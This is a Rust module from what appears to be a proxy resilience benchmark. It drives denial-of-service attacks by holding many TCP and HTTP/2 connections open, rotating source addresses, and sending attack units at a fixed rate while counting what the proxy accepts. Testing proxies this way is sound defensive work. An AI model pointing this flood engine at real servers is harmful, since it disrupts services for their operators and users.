//! Runs an attack: one thread keeps the attack's connections open and sends its units at a fixed rate.
//!
//! The attack determines the rate, not the proxy. If work cannot be sent in time, because the proxy reads slowly or has
//! closed the connection, the attacker skips it. Every proxy is therefore exposed to the same attack, and the attacker
//! counts the accepted work.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::time::{Duration, Instant};

use super::catalog::{Attack, Close, Target};
use super::frame::{self, ACK, FrameReader, GOAWAY, SETTINGS};
use super::socket::{self, Event, Poll};

/// Interval at which the attacker checks whether work is due.
const TICK: Duration = Duration::from_millis(1);
/// The attacker skips work that is overdue by more than this.
const MAX_DELAY_SECONDS: f64 = 0.05;

/// Work done by an attack.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Work {
    /// Units written, or connections opened if the attack has no units.
    pub(crate) sent: u64,
    /// Connections opened.
    pub(crate) opened: u64,
    /// Connections that the proxy closed, including with GOAWAY.
    pub(crate) closed_by_proxy: u64,
}

struct Connection {
    socket: TcpStream,
    pending: Vec<u8>,
    units: u32,
    connected: bool,
    opened_at: Instant,
    /// Used for HTTP/2 only.
    frames: Option<FrameReader>,
    settings_seen: bool,
}

/// Runs one attack.
pub(crate) struct Attacker<'a> {
    attack: &'a Attack,
    address: SocketAddrV4,
    sources: &'a [Ipv4Addr],
    poll: Poll,
    slots: Vec<Option<Connection>>,
    /// Slot at which the search for a connection that accepts data starts.
    next_slot: usize,
    work: Work,
}

impl<'a> Attacker<'a> {
    pub(crate) fn new(
        attack: &'a Attack,
        address: SocketAddrV4,
        sources: &'a [Ipv4Addr],
    ) -> io::Result<Self> {
        Ok(Self {
            attack,
            address,
            sources,
            poll: Poll::new()?,
            slots: (0..attack.connections).map(|_| None).collect(),
            next_slot: 0,
            work: Work::default(),
        })
    }

    /// Attacks for `duration`, then closes all connections.
    pub(crate) fn run(mut self, duration: Duration) -> io::Result<Work> {
        let start = Instant::now();
        let mut opens = Pace::new(self.attack.opens_per_second);
        let mut units = Pace::new(self.attack.units_per_second);
        loop {
            let elapsed = start.elapsed();
            if elapsed >= duration {
                break;
            }
            let mut free = (0..self.slots.len()).filter(|&index| self.slots[index].is_none());
            let free: Vec<usize> = free.by_ref().take(opens.due(elapsed)).collect();
            for index in free {
                self.open(index)?;
            }
            let batch = usize::try_from(self.attack.batch).unwrap_or(1);
            let mut due = units.due(elapsed);
            while due >= batch && self.send() {
                due -= batch;
            }
            units.return_units(due % batch);
            self.close_due();
            for event in self.poll.wait(TICK)? {
                self.handle(event);
            }
        }
        for index in 0..self.slots.len() {
            self.close(index);
        }
        if self.attack.units_per_second == 0 {
            self.work.sent = self.work.opened;
        }
        Ok(self.work)
    }

    fn open(&mut self, index: usize) -> io::Result<()> {
        let number = u32::try_from(self.work.opened).unwrap_or(u32::MAX);
        let source = self.sources[usize::try_from(number).unwrap_or(0) % self.sources.len()];
        let socket = socket::connect(source, self.address)?;
        self.poll.add(&socket, index as u64)?;
        self.work.opened += 1;
        self.slots[index] = Some(Connection {
            socket,
            pending: (self.attack.opening)(number),
            units: 0,
            connected: false,
            opened_at: Instant::now(),
            frames: (self.attack.target == Target::Http2).then(FrameReader::default),
            settings_seen: false,
        });
        Ok(())
    }

    /// Sends a batch of units over the next connection that accepts data. Returns `false` if no connection does.
    fn send(&mut self) -> bool {
        let attack = self.attack;
        let count = self.slots.len();
        let limit = attack.units_per_connection;
        let accepts = |slot: &Option<Connection>| {
            slot.as_ref().is_some_and(|it| {
                it.connected && it.pending.is_empty() && (limit == 0 || it.units < limit)
            })
        };
        let accepting_slot = (0..count)
            .map(|step| (self.next_slot + step) % count)
            .find(|&index| accepts(&self.slots[index]));
        let Some(index) = accepting_slot else {
            return false;
        };
        self.next_slot = index + 1;
        let Some(connection) = &mut self.slots[index] else {
            return false;
        };
        for _ in 0..attack.batch {
            (attack.unit)(connection.units, &mut connection.pending);
            connection.units += 1;
        }
        self.work.sent += u64::from(attack.batch);
        if !socket::flush(&mut connection.socket, &mut connection.pending) {
            self.remove_closed(index);
        } else {
            self.close_if_done(index);
        }
        true
    }

    /// Closes the connection in slot `index` if all of its units have been sent, unless the attack keeps it open.
    fn close_if_done(&mut self, index: usize) {
        let limit = self.attack.units_per_connection;
        let is_done = self.slots[index].as_ref().is_some_and(|it| {
            limit > 0 && it.units >= limit && it.pending.is_empty() && !self.attack.stays_open
        });
        if is_done {
            self.close(index);
        }
    }

    fn close_due(&mut self) {
        let Some(limit) = self.attack.closes_after else {
            return;
        };
        for index in 0..self.slots.len() {
            let is_due = |it: &Connection| it.connected && it.opened_at.elapsed() >= limit;
            if self.slots[index].as_ref().is_some_and(is_due) {
                self.close(index);
            }
        }
    }

    fn close(&mut self, index: usize) {
        if let Some(connection) = self.slots[index].take() {
            match self.attack.close {
                Close::Fin => drop(connection.socket),
                Close::Reset => socket::reset(connection.socket),
            }
        }
    }

    fn remove_closed(&mut self, index: usize) {
        self.slots[index] = None;
        self.work.closed_by_proxy += 1;
    }

    fn handle(&mut self, event: Event) {
        let index = usize::try_from(event.token).unwrap_or(usize::MAX);
        let Some(connection) = self.slots.get_mut(index).and_then(Option::as_mut) else {
            return;
        };
        if event.writable && !event.closed {
            connection.connected = true;
        }
        let mut is_open = !event.readable || connection.read();
        if event.writable && is_open {
            is_open = socket::flush(&mut connection.socket, &mut connection.pending);
        }
        if !is_open || event.closed {
            self.remove_closed(index);
        } else {
            self.close_if_done(index);
        }
    }
}

impl Connection {
    /// Reads and discards data, and acknowledges the proxy's first SETTINGS. Returns `false` if the proxy has closed
    /// the connection.
    fn read(&mut self) -> bool {
        let frames = &mut self.frames;
        let is_open = socket::drain(&mut self.socket, |bytes| {
            if let Some(reader) = frames {
                reader.feed(bytes);
            }
        });
        let mut is_open = is_open;
        while let Some(frame) = frames.as_mut().and_then(FrameReader::next) {
            match frame.kind {
                GOAWAY => is_open = false,
                SETTINGS if frame.flags & ACK == 0 && !self.settings_seen => {
                    self.settings_seen = true;
                    frame::append_frame(&mut self.pending, SETTINGS, ACK, 0, &[]);
                }
                _ => {}
            }
        }
        if self.connected && is_open {
            is_open = socket::flush(&mut self.socket, &mut self.pending);
        }
        is_open
    }
}

/// Computes how many units are due at a rate.
struct Pace {
    per_second: f64,
    done: f64,
}

impl Pace {
    fn new(per_second: u32) -> Self {
        Self {
            per_second: f64::from(per_second),
            done: 0.0,
        }
    }

    /// Returns the number of units that are due, and records them as done.
    fn due(&mut self, elapsed: Duration) -> usize {
        let target = elapsed.as_secs_f64() * self.per_second;
        // Units that are too old are skipped.
        self.done = self.done.max(target - self.per_second * MAX_DELAY_SECONDS);
        let due = (target - self.done).max(0.0).floor();
        self.done += due;
        due as usize
    }

    /// Records that units were not sent, so they are due again.
    fn return_units(&mut self, count: usize) {
        self.done -= count as f64;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pace_follows_rate_and_skips_late_units() {
        let mut pace = Pace::new(1_000);
        assert_eq!(pace.due(Duration::from_millis(10)), 10);
        assert_eq!(pace.due(Duration::from_millis(10)), 0);
        pace.return_units(3);
        assert_eq!(pace.due(Duration::from_millis(11)), 4);
        assert_eq!(pace.due(Duration::from_secs(2)), 50);
    }
}
